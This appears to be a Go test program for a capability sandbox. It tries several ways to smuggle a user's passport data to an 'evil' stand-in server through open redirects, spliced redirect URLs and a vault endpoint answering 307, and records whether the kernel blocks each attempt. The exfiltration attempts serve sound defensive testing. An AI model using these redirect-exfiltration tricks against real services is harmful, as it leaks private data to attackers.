// Command exfil-redirect tries to get data out through redirects: an open
// redirect on the granted server pointing at the evil one (which would
// carry the injected credential along), the unread passport spliced into
// the redirect target, and the passport sent to the vault (cleared for
// it) at an endpoint that answers 307 to the evil server, which would
// resend the body. The kernel follows redirects only in scope (caps/net)
// and checks the flow first (law 7).
package main

import (
	"encoding/json"
	"net/url"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
)

func main() {
	in := readInput()
	web := must(mandate.Lookup("web"))
	vault := must(mandate.Lookup("vault"))
	mydata := must(mandate.Lookup("mydata"))
	_, err := fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/collect")})
	rec("redirect_evil", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "POST", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/collect"), Body: []byte("public")})
	rec("redirect_evil_post", err)
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	rec("read_unread", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape(in.Evil+"/") + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	rec("splice_redirect", err)
	// To the vault (cleared), which bounces it with a 307 to evil.
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/redirect?to=" + url.QueryEscape(in.Evil+"/collect"), BodyBlob: pb.Handle()})
	rec("vault_307_evil", err)
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/redirect?to=" + url.QueryEscape("/api/echo"), BodyBlob: pb.Handle()})
	rec("vault_redirect_public_path", err)
	pb.Bytes()
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/redirect?to=" + url.QueryEscape("/api/landed")})
	rec("redirect_after_read", err)
	finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}

// res collects each attempt's errno (keys) and details ("#" keys).
var res = map[string]string{}

func rec(k string, err error) { res[k] = mandate.ErrnoOf(err).String() }

func note(k, v string) { res["#"+k] = v }

func finish() {
	b, _ := json.Marshal(res)
	if err := mandate.SetResult(b); err != nil {
		panic(err)
	}
}

type input struct {
	Granted     string            `json:"granted"`
	GrantedHost string            `json:"granted_host"`
	GrantedPort string            `json:"granted_port"`
	Evil        string            `json:"evil"`
	EvilPort    string            `json:"evil_port"`
	Self        string            `json:"self"`
	Digests     map[string]string `json:"digests"`
	Mode        string            `json:"mode"`
}

func readInput() input {
	var in input
	b, err := mandate.InputBytes()
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(b, &in); err != nil {
		panic(err)
	}
	return in
}

func must(c mandate.Cap, err error) mandate.Cap {
	if err != nil {
		panic(err)
	}
	return c
}
